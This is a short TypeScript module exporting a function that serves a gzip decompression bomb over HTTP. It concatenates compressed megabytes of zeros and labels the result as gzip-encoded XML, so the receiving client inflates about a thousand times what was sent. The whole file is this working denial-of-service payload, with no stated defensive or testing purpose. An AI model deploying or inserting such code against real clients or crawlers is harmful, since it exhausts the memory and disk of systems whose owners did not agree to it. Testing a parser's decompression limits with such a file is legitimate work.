import type { ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';

/** One megabyte of zeros as a whole gzip member of about 1 KB; members may follow one another (RFC 1952, 2.2). */
const member = gzipSync(Buffer.alloc(1024 * 1024));

/** Sends a thousandth of what it grows to. */
export function gzipBomb(response: ServerResponse, megabytes: number): void {
	response.writeHead(200, { 'Content-Type': 'application/xml', 'Content-Encoding': 'gzip' });
	response.end(Buffer.concat(new Array<Buffer>(megabytes).fill(member)));
}
